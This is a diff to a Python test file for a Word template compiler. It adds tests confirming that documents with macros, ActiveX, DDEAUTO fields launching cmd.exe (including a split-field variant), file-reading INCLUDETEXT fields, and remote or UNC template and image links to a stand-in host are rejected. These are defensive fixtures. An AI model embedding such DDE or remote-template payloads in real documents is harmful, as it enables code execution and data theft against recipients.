@@ -12,14 +12,14 @@ from typing import Any
 
 import pytest
 from atelier_word import Rendre
-from fabrique_word import make_docx, make_png, p
+from fabrique_word import make_docx, make_png, p, tableau
 
 from clausedocs.erreurs import ClausedocsErreur, ErreursGroupees
 from clausedocs.modeles.word import compilation
 from clausedocs.modeles.word.compilation import compile_word
 from clausedocs.modeles.word.sources import find_source
 
-SECONDES, OCTETS = 8.0, 60_000_000
+SECONDES, OCTETS = 8.0, 80_000_000
 DONNEES: dict[str, Any] = {"nom": "Valmorin", "villes": ["a", "b"], "n": 3, "groupe": {"a": "un"}}
 
 
@@ -227,6 +227,72 @@ def test_packages_made_to_hurt(code: str, tmp_path: Path) -> None:
     with pytest.raises(ClausedocsErreur) as caught:
         measure(lambda: compile_word(find_source(path)))
     assert caught.value.code == code
+
+
+def relation(kind: str, cible: str) -> bytes:
+    """The relationships of a part that lead elsewhere."""
+    return (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
+        f'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
+        f'Target="{cible}" TargetMode="External"/></Relationships>'
+    ).encode()
+
+
+LIENS = "word/_rels/settings.xml.rels"
+CHAMP = '<w:p><w:r><w:instrText xml:space="preserve"> {} </w:instrText></w:r></w:p>'
+COUPE = (
+    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r>'
+    '<w:instrText>AUTO c:/windows/cmd.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+)
+ACTIFS: dict[str, tuple[tuple[str, ...], dict[str, bytes], str]] = {
+    "macros": ((), {"word/vbaProject.bin": b"x"}, "word_macros"),
+    "activex": ((), {"word/activeX/activeX1.xml": b"<a/>"}, "word_macros"),
+    "modele_lointain": (
+        (),
+        {LIENS: relation("attachedTemplate", "https://piege.example/a.dotm")},
+        "word_lien_externe",
+    ),
+    "modele_partage": (
+        (),
+        {LIENS: relation("attachedTemplate", "file://serveur/a.dotm")},
+        "word_lien_externe",
+    ),
+    "image_lointaine": ((), {LIENS: relation("image", "http://piege.example/a.png")}, "word_lien_externe"),
+    "image_unc": ((), {LIENS: relation("image", r"\\\\serveur\\a.png")}, "word_lien_externe"),
+    "dde": ((CHAMP.format("DDEAUTO c:/windows/cmd.exe"),), {}, "word_champ_actif"),
+    "dde_coupe": ((COUPE,), {}, "word_champ_actif"),
+    "fichier": ((CHAMP.format("INCLUDETEXT c:/secret.docx"),), {}, "word_champ_actif"),
+    "simple": (
+        ('<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://piege.example/a.png"/></w:p>',),
+        {},
+        "word_champ_actif",
+    ),
+}
+
+
+@pytest.mark.parametrize("cas", ACTIFS)
+def test_what_word_itself_would_run_or_fetch(cas: str, tmp_path: Path) -> None:
+    corps, parts, code = ACTIFS[cas]
+    path = tmp_path / "modele.docx"
+    path.write_bytes(make_docx(p("{{ n }}"), *corps, autres=parts))
+    with pytest.raises(ErreursGroupees) as caught:
+        compile_word(find_source(path))
+    assert [e.code for e in caught.value.erreurs] == [code]
+
+
+def test_what_harms_nobody_is_let_through(tmp_path: Path) -> None:
+    path = tmp_path / "modele.docx"
+    local = relation("attachedTemplate", "file:///C:/Modeles/Ville.dotx")
+    site = relation("hyperlink", "https://www.ville.example")
+    parts = {LIENS: local, "word/_rels/footer9.xml.rels": site}
+    path.write_bytes(make_docx(p("{{ n }}"), CHAMP.format("PAGE"), autres=parts))
+    assert compile_word(find_source(path)).variables == ("n",)
+
+
+def test_a_long_table_is_read_in_time(tmp_path: Path) -> None:
+    path = tmp_path / "modele.docx"
+    path.write_bytes(make_docx(p("{{ n }}"), tableau(*[("a", "b")] * 8000)))
+    measure(lambda: compile_word(find_source(path)))
 
 
 def with_macros(docx: bytes) -> bytes:
